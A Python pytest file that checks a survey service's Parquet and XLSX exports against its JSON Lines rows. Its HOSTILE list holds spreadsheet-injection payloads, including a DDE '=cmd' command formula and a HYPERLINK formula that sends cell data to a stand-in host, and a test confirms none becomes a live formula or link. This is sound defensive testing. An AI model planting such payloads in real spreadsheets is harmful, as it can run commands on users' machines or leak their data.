"""The export as files of other programs: DuckDB and pandas read its Parquet, openpyxl its XLSX.

JSON Lines says what the rows are; every other form must say the same.
"""

import json
import re
from datetime import datetime, timedelta, timezone

import duckdb
import openpyxl
import pandas
import pyarrow.parquet
import pytest
from openpyxl.utils.escape import unescape

import scenario
from harness import Surveyd, close, moment, new_database
from test_numbers import COLUMNS

INSTANTS = [name for name in COLUMNS if name.endswith("_at")]
NUMBERS = ["question_variant_id", "updates"]
TYPES = (
    dict.fromkeys(COLUMNS, "VARCHAR")
    | dict.fromkeys(INSTANTS, "TIMESTAMP WITH TIME ZONE")
    | dict.fromkeys(NUMBERS, "BIGINT")
    | {"score": "INTEGER", "test": "BOOLEAN", "tags": "VARCHAR[]"}
)

CONFIGURATION = """
[store]
url = "STORE"

[http]
listen = "127.0.0.1:PORT"

[x]
base_url = "http://127.0.0.1:1"

[[accounts]]
name = "acme"
user_id = "7"
consumer_key = "key"
consumer_secret = { file = "consumer-secret" }
access_token = "token"
access_token_secret = { file = "token-secret" }
privacy_url = "https://acme.example/privacy"

[accounts.survey]
delay = "1h"
message = "Later."

[[sources]]
name = "helpdesk"
kind = "standard"
account = "acme"
secret = { file = "helpdesk-secret" }
"""

# What spreadsheets run, link, convert or cannot hold, before and after which anything may stand.
HOSTILE = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"look\")",
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
    "1234567890123456789",
    "0017",
    "1e5",
    "2026-11-22",
    "TRUE",
    "#REF!",
    "https://evil.example/",
    "mailto:me@acme.example",
    "<f>1+1</f>",
    "]]>&amp;",
    "_x003D_1",
    "\x01\x0b\x1b\ufffe\uffff",
    "a\r\nb\rc",
    "شكرا 👋🏽 ☃",
    "' or 1=1 --",
]
FIELDS = ("conversation", "agent", "team", "tag", "language")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """1,000 hostile strings in 200 closes by people with the longest ids there are, and their export."""
    folder = tmp_path_factory.mktemp("hostile")
    secrets = {"helpdesk-secret": scenario.WEBHOOK_SECRET, "consumer-secret": "a", "token-secret": "b"}
    surveyd = Surveyd(folder, CONFIGURATION.replace("STORE", new_database("sqlite")), secrets)
    texts = iter([f"{text}{number}" if number else text for number in range(40) for text in HOSTILE])
    try:
        surveyd.start()
        for number in range(200):
            conversation, agent, team, tag, language = (next(texts) for _ in FIELDS)
            person = str(9_223_372_036_854_775_807 - number)
            labels = {"agent": agent, "team": team, "tags": [tag, "x|y"], "language": language}
            answer = surveyd.post(close("acme", conversation, person, moment(number), **labels))
            assert answer.status_code == 202, answer.text
        surveyd.stop()
        yield surveyd
    finally:
        surveyd.kill()


class Files:
    """The export of one database in every format, and its rows by JSON Lines."""

    def __init__(self, surveyd, folder):
        self.surveyd, self.folder = surveyd, folder
        lines = self.path("jsonl").read_text(encoding="utf-8").split("\n")[:-1]
        self.rows = [json.loads(line) for line in lines]

    def path(self, format, name="export"):
        path = self.folder / f"{name}.{format}"
        self.surveyd.run("export", "--format", format, "-o", path)
        return path


@pytest.fixture
def files_of_the_day(day, tmp_path):
    """A day's rows, with scores and comments."""
    files = Files(day.surveyd, tmp_path)
    assert any(row["score"] is not None and row["text"] is not None for row in files.rows)
    return files


@pytest.fixture
def hostile_files(hostile, tmp_path):
    files = Files(hostile, tmp_path)
    assert len(files.rows) == 200
    return files


def instant(text):
    return text and datetime.fromisoformat(text)


def typed(row):
    return {name: instant(value) if name in INSTANTS else value for name, value in row.items()}


def test_duckdb_reads_the_parquet_of_a_day(files_of_the_day):
    read_by_duckdb(files_of_the_day)


def test_duckdb_reads_hostile_texts_from_parquet(hostile_files):
    read_by_duckdb(hostile_files)


def read_by_duckdb(files):
    path, rows = str(files.path("parquet")), files.rows
    types = duckdb.sql(f"describe from '{path}'").fetchall()
    assert {name: type for name, type, *_ in types} == TYPES
    assert [name for name, *_ in types] == COLUMNS
    instants = ", ".join(f"epoch_ms({name}) as {name}" for name in INSTANTS)
    found = duckdb.sql(f"select * replace ({instants}) from '{path}'").fetchall()
    millis = [
        {name: round(value.timestamp() * 1000) if isinstance(value, datetime) else value for name, value in row.items()}
        for row in map(typed, rows)
    ]
    assert found == [tuple(row.values()) for row in millis]
    [counted] = duckdb.sql(f"select count(*), count(score), count(text), sum(len(tags)) from '{path}'").fetchall()
    texts, scores = [[row[name] for row in rows if row[name] is not None] for name in ("text", "score")]
    assert counted == (len(rows), len(scores), len(texts), sum(len(row["tags"]) for row in rows))


def test_pandas_reads_the_parquet_of_a_day(files_of_the_day):
    read_by_pandas(files_of_the_day)


def test_pandas_reads_hostile_texts_from_parquet(hostile_files):
    read_by_pandas(hostile_files)


def read_by_pandas(files):
    path, rows = files.path("parquet"), files.rows
    file = pyarrow.parquet.ParquetFile(path)
    assert re.fullmatch(r"surveyd \d+\.\d+\.\d+\S*", file.metadata.created_by)
    assert file.metadata.metadata is None
    assert file.read().to_pylist() == [typed(row) for row in rows]
    frame = pandas.read_parquet(path, dtype_backend="numpy_nullable")
    assert list(frame.columns) == COLUMNS and len(frame) == len(rows)
    assert str(frame["score"].dtype) == "Int32" and str(frame["updates"].dtype) == "Int64"
    assert str(frame["closed_at"].dtype) == "datetime64[ms, UTC]"
    assert frame["score"].isna().sum() == sum(row["score"] is None for row in rows)
    assert [list(tags) for tags in frame["tags"]] == [row["tags"] for row in rows]


def test_a_spreadsheet_finds_dates_numbers_and_texts_of_a_day(files_of_the_day):
    read_by_openpyxl(files_of_the_day)


def test_a_spreadsheet_finds_nothing_to_run_in_a_thousand_hostile_texts(hostile_files):
    read_by_openpyxl(hostile_files)


def read_by_openpyxl(files):
    book, rows = openpyxl.load_workbook(files.path("xlsx")), files.rows
    assert book.sheetnames == ["surveys"]
    sheet = book["surveys"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:Z{len(rows) + 1}"
    head, *found = sheet.iter_rows()
    assert [cell.value for cell in head] == COLUMNS and all(cell.font.bold for cell in head)
    assert len(found) == len(rows)
    for cells, row in zip(found, rows):
        for name, cell in zip(COLUMNS, cells):
            assert cell.data_type != "f" and cell.hyperlink is None, (name, cell.value)
            wanted = as_cell(name, row[name])
            value = unescape(cell.value) if isinstance(cell.value, str) else cell.value
            if name in INSTANTS and wanted is not None:
                assert cell.is_date and cell.number_format == "yyyy-mm-dd hh:mm:ss"
                assert abs(value - wanted) < timedelta(milliseconds=2), (name, value, wanted)
            else:
                assert (type(value), value) == (type(wanted), wanted), name


def as_cell(name, value):
    if name == "tags":
        value = "|".join(value)
    if name in INSTANTS:
        return value and instant(value).astimezone(timezone.utc).replace(tzinfo=None)
    if not isinstance(value, str):
        return value
    value = value.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub("[\x00-\x08\x0b-\x1f\ufffe\uffff]", "\ufffd", value) or None


def test_every_export_of_the_same_rows_has_the_same_bytes(hostile_files):
    for format in ("parquet", "xlsx"):
        one, other = [hostile_files.path(format, name).read_bytes() for name in ("one", "other")]
        assert one == other
